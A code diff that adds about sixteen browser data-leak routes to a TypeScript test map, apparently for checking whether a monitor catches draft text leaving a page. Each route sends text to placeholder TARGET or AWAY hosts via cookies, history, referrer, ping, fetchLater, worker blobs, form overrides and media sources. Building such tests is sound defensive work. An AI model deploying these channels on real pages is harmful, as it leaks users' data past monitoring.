@@ -66,6 +66,74 @@ const ROUTES: Record<string, (text: string) => void> = {
     socket.onopen = () => socket.send(new TextEncoder().encode(body(text)));
   },
   'event-source': (text) => void new EventSource(TARGET + query(text)),
+  cookie: (text) => {
+    document.cookie = `draft=${encodeURIComponent(text)}; path=/`;
+    void fetch('/backend-api/me');
+  },
+  'cookie-store': (text) => {
+    const store = Reflect.get(globalThis, 'cookieStore') as { set(name: string, value: string): Promise<void> } | undefined;
+    void store?.set('draft', encodeURIComponent(text)).catch(() => undefined).then(() => fetch('/backend-api/me'));
+  },
+  history: (text) => {
+    history.replaceState({}, '', query(text));
+    void fetch('/backend-api/me');
+  },
+  referrer: (text) => void fetch('/backend-api/me', { referrer: `/${query(text)}` }),
+  location: (text) => location.assign(TARGET + query(text)),
+  link: (text) => {
+    const link = document.createElement('a');
+    link.innerHTML = 'x';
+    link.href = TARGET;
+    link.search = query(text);
+    document.body.append(link);
+    link.click();
+  },
+  ping: (text) => {
+    const link = document.createElement('a');
+    Object.assign(link, { href: '#', ping: TARGET + query(text) });
+    document.body.append(link);
+    link.click();
+  },
+  later: (text) => {
+    const fetchLater = Reflect.get(globalThis, 'fetchLater') as ((url: string, init: object) => void) | undefined;
+    fetchLater?.(TARGET, { method: 'POST', body: body(text), activateAfter: 0 });
+  },
+  'form-action': (text) => {
+    const form = document.createElement('form');
+    const pressed = document.createElement('button');
+    form.target = frame({ name: 'sink', hidden: '' }).name;
+    pressed.setAttribute('formaction', '/ces/v1/draft/x');
+    pressed.formAction = `${TARGET}/${encodeURIComponent(text)}`;
+    form.append(pressed);
+    document.body.append(form);
+    pressed.click();
+  },
+  'form-stopped': (text) => {
+    const form = document.createElement('form');
+    const field = document.createElement('input');
+    Object.assign(form, { action: TARGET, method: 'post' });
+    Object.assign(field, { name: 'draft', value: text });
+    form.append(field);
+    form.addEventListener('submit', (event) => event.stopPropagation());
+    document.body.append(form);
+    form.requestSubmit();
+  },
+  'socket-stream': (text) => {
+    const Stream = Reflect.get(globalThis, 'WebSocketStream') as (new (url: string) => { opened: Promise<{ writable: WritableStream }> }) | undefined;
+    if (Stream) void new Stream(`wss://${location.host}/ws`).opened.then(({ writable }) => writable.getWriter().write(body(text)));
+  },
+  'worker-map': (text) => {
+    const code = `onmessage=({data})=>fetch(${JSON.stringify(location.origin + TARGET)},{method:'POST',body:data.get('d')})`;
+    new Worker(URL.createObjectURL(new Blob([code]))).postMessage(new Map([['d', text]]));
+  },
+  'shared-worker': (text) => {
+    const code = `onconnect=({ports:[port]})=>{port.onmessage=({data})=>fetch(${JSON.stringify(location.origin + TARGET)},{method:'POST',body:data})}`;
+    new SharedWorker(URL.createObjectURL(new Blob([code]))).port.postMessage(text);
+  },
+  poster: (text) => void document.body.append(Object.assign(document.createElement('video'), { poster: AWAY + query(text) })),
+  'image-button': (text) => {
+    document.body.append(Object.assign(document.createElement('input'), { type: 'image', src: AWAY + query(text) }));
+  },
   image: (text) => void (new Image().src = AWAY + query(text)),
   submit: (text) => submit(text, 'submit'),
   'request-submit': (text) => submit(text, 'requestSubmit'),
